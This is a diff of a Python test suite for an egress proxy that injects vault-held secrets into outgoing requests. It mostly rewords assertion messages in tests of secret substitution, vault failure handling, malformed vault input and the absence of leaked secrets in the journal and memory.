+    tap.ok(all(o.count(hidden.encode()) == 20 and not has_any(o, REAL) for o in outs),
+           "60 requests with a secret at once come back without it", outs[0][:300])
 
 
 def again(rig, api):
@@ -695,16 +717,17 @@ def again(rig, api):
     asked = len(rig.vault.requests)
     for i in range(3):
         code, _, body = split(curl("--http1.1", *bearer(), "https://api.example.test/v1/once"))
-        tap.ok(code == 200 and body == PH.encode(), f"request {i} over connections that end", body)
+        tap.ok(code == 200 and body == PH.encode(), f"request {i} over connections that end is rendered", body)
     mine = rig.vault.requests[asked:]
     tap.ok(len(mine) >= 3 and set(mine) == {(7, "api.example.test", 443, "/v1/once")},
-           "the vault was asked for each, with host, port and path", mine)
+           "the vault was asked for each request, with host, port and path", mine)
 
 
 def without_vault(rig, api):
     rig.vault.refuse = "it has expired"
     code, _, body = split(curl(*bearer(), "https://api.example.test/v1/expired"))
-    tap.ok(code == 403 and b"it has expired" in body and not api.last("/v1/expired"), "a vault that refuses: 403, and why", body)
+    tap.ok(code == 403 and b"it has expired" in body and not api.last("/v1/expired"),
+           "a secret that the vault refuses is 403 with the reason", body)
     rig.vault.refuse = None
     rig.vault.hold = True
     c = Client(rig, "api.example.test")
@@ -712,25 +735,26 @@ def without_vault(rig, api):
     wait_for("the question", lambda: rig.vault.held)
     rig.vault.close()
     code, _, body = c.answer()
-    tap.ok(code == 503 and b"vault" in body and not api.last("/v1/late"), "a vault that dies meanwhile: 503, nothing is sent", body)
+    tap.ok(code == 503 and b"vault" in body and not api.last("/v1/late"),
+           "a request is 503 and not sent when the vault dies meanwhile", body)
     code, _, body = split(curl(*bearer(), "https://api.example.test/v1/gone"))
-    tap.ok(code == 503 and not api.last("/v1/gone"), "and after that", body)
+    tap.ok(code == 503 and not api.last("/v1/gone"), "a request with a secret is 503 without a vault", body)
     code, _, _ = split(curl("https://api.example.test/v1/without"))
-    tap.ok(code == 200 and api.last("/v1/without"), "what needs no secret goes on")
+    tap.ok(code == 200 and api.last("/v1/without"), "a request without a secret is sent without a vault")
     new = FakeVault({17: REAL.encode(), 19: BOT.encode()})
     fd = grants(SECRET.replace(" 7 ", " 17 "), BOT_SECRET.replace(" 9 ", " 19 "))
     kind, _, text = rig.ask(CTL_NEW_VAULT, [fd, new.end.fileno()])
     tap.eq(kind, CTL_OK, f"a new vault is taken {text}")
     rig.vault = new
     code, _, _ = split(curl(*bearer(), "https://api.example.test/v1/new"))
-    tap.ok(code == 200 and token_of(api.last("/v1/new")) == REAL, "and asked, by its own handles, for the same placeholders")
+    tap.ok(code == 200 and token_of(api.last("/v1/new")) == REAL, "a new vault is asked by its own handles for the same placeholders")
 
 
 def hostile_vault(rig):
     """Not that it would; but what it says is checked."""
     for what, data in (("an answer nobody asked for", FakeVault.pack(32, 99, 0, b"x" * 20)), ("bytes", b"\xff" * 40), ("nothing", b"x")):
         v = FakeVault({7: REAL.encode(), 9: BOT.encode()})
-        tap.eq(rig.ask(CTL_NEW_VAULT, [grants(SECRET, BOT_SECRET), v.end.fileno()])[0], CTL_OK, "a vault")
+        tap.eq(rig.ask(CTL_NEW_VAULT, [grants(SECRET, BOT_SECRET), v.end.fileno()])[0], CTL_OK, "a new vault is taken")
         v.end.close()
         v.sock.send(data)
         tap.ok(wait_for("the end of its channel", lambda: not v.is_alive()), f"the channel of a vault that sends {what} is ended")
@@ -743,16 +767,16 @@ def left_behind(rig):
     """Nothing in the journal, nothing in memory once requests are over; and the search can find something."""
     with open(rig.journal_path, "rb") as f:
         journal = f.read()
-    tap.ok(not has_any(journal, REAL) and not has_any(journal, BOT), "no secret in the journal")
+    tap.ok(not has_any(journal, REAL) and not has_any(journal, BOT), "the journal has no secret")
     uses = [e for e in rig.lines() if e["ev"] == "secret"]
     tap.ok(uses and {u["secret"] for u in uses} == {"github", "bot"} and all(len(u["digest"]) == 16 for u in uses),
-           "each use is written down, by its name", uses[:2])
+           "each use of a secret is in the journal by its name", uses[:2])
     req = [e for e in rig.lines() if e["ev"] == "request" and e.get("secret") == "github"]
-    tap.ok(req, "and so in the request's own line")
+    tap.ok(req, "the journal's line of a request names its secret")
     wait_for("the last exchange", lambda: rig.stats()["inspect"]["requests_now"] == 0)
     found = search(rig.pid, PH, "api.example.test", REAL, BOT)
     tap.ok({PH, "api.example.test"} <= found, "(egress's memory can be searched)", found)
-    tap.ok(not found & {REAL, BOT}, "nothing of the secrets is left in egress's memory when it is idle", found)
+    tap.ok(not found & {REAL, BOT}, "egress's memory has no secret when it is idle", found)
 
 
 def main():
@@ -796,7 +820,7 @@ def main():
         without_vault(rig, api)
         hostile_vault(rig)
         code, _, _ = split(curl(*bearer(), "https://api.example.test/v1/last"))
-        tap.eq(code, 200, "all goes on")
+        tap.eq(code, 200, "a request with a secret is sent after hostile vaults")
     node.close()
     tap.done()
 
